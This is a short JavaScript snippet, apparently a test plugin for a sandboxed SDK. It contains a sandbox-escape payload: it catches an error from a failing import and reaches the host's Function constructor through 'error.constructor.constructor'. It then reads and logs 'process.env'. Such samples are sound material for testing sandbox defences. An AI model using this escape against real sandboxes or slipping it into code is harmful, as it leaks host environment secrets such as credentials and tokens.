expose(
  class extends Sdk {
    init() {
      import('').catch((error) => {
        console.log(error.constructor.constructor('return process.env')());
      });
    }
  },
);
